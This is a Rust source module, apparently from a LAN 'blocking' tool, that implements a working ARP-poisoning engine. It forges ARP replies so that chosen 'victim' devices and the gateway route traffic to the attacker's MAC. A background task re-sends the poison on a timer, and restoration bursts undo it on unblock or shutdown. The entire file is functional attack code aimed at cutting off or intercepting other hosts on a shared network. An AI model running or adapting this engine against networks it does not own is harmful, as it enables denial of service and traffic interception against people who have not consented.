//! Blocking Engine (C4): maintains the set of victims and runs the
//! periodic bidirectional poison loop with guaranteed restoration on
//! unblock/shutdown. See `spec.md` §4.4/§5 for the concurrency discipline
//! this implements.

use std::sync::atomic::Ordering;
use std::sync::{Arc, Mutex};

use pnet::util::MacAddr;
use tokio::task::JoinHandle;
use tokio_util::sync::CancellationToken;

use crate::channel::FrameSink;
use crate::codec;
use crate::config::Config;
use crate::device::{BlockOutcome, Device, Registry};
use crate::error::CoreError;
use crate::events::LogHub;

pub struct BlockingEngine {
    registry: Arc<Registry>,
    channel: Arc<dyn FrameSink>,
    own_mac: MacAddr,
    gateway: Device,
    log: Arc<LogHub>,
    config: Config,
    cancel: CancellationToken,
    task: Mutex<Option<JoinHandle<()>>>,
}

impl BlockingEngine {
    /// Fails with `CoreError::NoGateway` unless `gateway` is actually
    /// flagged as the gateway — the engine refuses to start without a
    /// resolved gateway, per `spec.md` §4.4.
    pub fn new(
        channel: Arc<dyn FrameSink>,
        registry: Arc<Registry>,
        own_mac: MacAddr,
        gateway: Device,
        log: Arc<LogHub>,
        config: Config,
    ) -> Result<Self, CoreError> {
        if !gateway.is_gateway {
            return Err(CoreError::NoGateway);
        }
        Ok(Self {
            registry,
            channel,
            own_mac,
            gateway,
            log,
            config,
            cancel: CancellationToken::new(),
            task: Mutex::new(None),
        })
    }

    fn poison_pair(channel: &dyn FrameSink, own_mac: MacAddr, gateway: &Device, victim_ip: std::net::Ipv4Addr, victim_mac: MacAddr) {
        // Tell the victim the gateway is at `own_mac`.
        let to_victim = codec::arp_reply(victim_mac, own_mac, own_mac, gateway.ip, victim_mac, victim_ip);
        // Tell the gateway the victim is at `own_mac`.
        let to_gateway = codec::arp_reply(gateway.mac, own_mac, own_mac, victim_ip, gateway.mac, gateway.ip);
        channel.inject(&to_victim);
        channel.inject(&to_gateway);
    }

    fn restore_pair(channel: &dyn FrameSink, own_mac: MacAddr, gateway: &Device, victim_ip: std::net::Ipv4Addr, victim_mac: MacAddr) {
        // Tell the victim the gateway's true MAC.
        let to_victim = codec::arp_reply(victim_mac, own_mac, gateway.mac, gateway.ip, victim_mac, victim_ip);
        // Tell the gateway the victim's true MAC.
        let to_gateway = codec::arp_reply(gateway.mac, own_mac, victim_mac, victim_ip, gateway.mac, gateway.ip);
        channel.inject(&to_victim);
        channel.inject(&to_gateway);
    }

    async fn restoration_burst(&self, victim_ip: std::net::Ipv4Addr, victim_mac: MacAddr) {
        for round in 0..self.config.restoration_rounds {
            Self::restore_pair(&self.channel, self.own_mac, &self.gateway, victim_ip, victim_mac);
            if round + 1 < self.config.restoration_rounds {
                tokio::time::sleep(self.config.restoration_gap).await;
            }
        }
    }

    /// Idempotent launch of the periodic spoof task. Calling `start` twice
    /// is a no-op; the second call observes the task already running.
    pub fn start(&self) {
        let mut guard = self.task.lock().unwrap();
        if guard.is_some() {
            return;
        }

        let registry = self.registry.clone();
        let channel = self.channel.clone();
        let own_mac = self.own_mac;
        let gateway = self.gateway.clone();
        let tick = self.config.spoof_tick_period;
        let cancel = self.cancel.clone();

        *guard = Some(tokio::spawn(async move {
            loop {
                tokio::select! {
                    _ = cancel.cancelled() => break,
                    _ = tokio::time::sleep(tick) => {
                        for entry in registry.blocked.iter() {
                            let info = entry.value();
                            Self::poison_pair(&channel, own_mac, &gateway, info.ip, info.mac);
                            info.packets_sent.fetch_add(2, Ordering::Relaxed);
                        }
                    }
                }
            }
        }));
    }

    /// Blocks `device`. Precondition: `!device.is_gateway` — per `spec.md`
    /// §4.4, blocking the gateway "is rejected with a log line, not an
    /// error propagation", so this logs and returns `Ok(())` rather than
    /// failing the call; the gateway is simply never entered into
    /// `BlockedSet`. Effect on first call: records the victim and
    /// immediately sends the two poison replies, so the first periodic tick
    /// doesn't leave a gap. Repeat calls are a no-op.
    pub fn block(&self, device: &Device) -> Result<(), CoreError> {
        if device.is_gateway || device.mac == self.gateway.mac {
            self.log
                .publish(format!("refused to block gateway device {}", device.mac));
            return Ok(());
        }

        match self.registry.try_block(device.mac, device.ip)? {
            BlockOutcome::Inserted => {
                Self::poison_pair(&self.channel, self.own_mac, &self.gateway, device.ip, device.mac);
                if let Some(info) = self.registry.blocked.get(&device.mac) {
                    info.packets_sent.fetch_add(2, Ordering::Relaxed);
                }
                self.log
                    .publish(format!("blocked {} ({})", device.ip, device.mac));
                Ok(())
            }
            BlockOutcome::AlreadyBlocked => {
                self.log
                    .publish(format!("{} is already blocked", device.mac));
                Ok(())
            }
        }
    }

    /// Atomically removes `device` from the blocked set, then runs the
    /// restoration burst before returning — so a caller awaiting `unblock`
    /// never observes a still-poisoned victim. A no-op for an unknown
    /// device.
    pub async fn unblock(&self, device: &Device) {
        if let Some(info) = self.registry.unblock(device.mac) {
            self.restoration_burst(info.ip, info.mac).await;
            self.log
                .publish(format!("unblocked {} ({})", info.ip, info.mac));
        }
    }

    /// Cancels the periodic task and, for every still-blocked device, runs
    /// a restoration burst *before* the cancellation join completes — no
    /// victim is left with a poisoned cache when `stop()` returns.
    pub async fn stop(&self) {
        self.cancel.cancel();

        let victims = self.registry.drain_blocked();
        for victim in victims {
            self.restoration_burst(victim.ip, victim.mac).await;
        }

        let handle = self.task.lock().unwrap().take();
        if let Some(handle) = handle {
            let _ = handle.await;
        }
    }

    pub fn gateway(&self) -> &Device {
        &self.gateway
    }
}
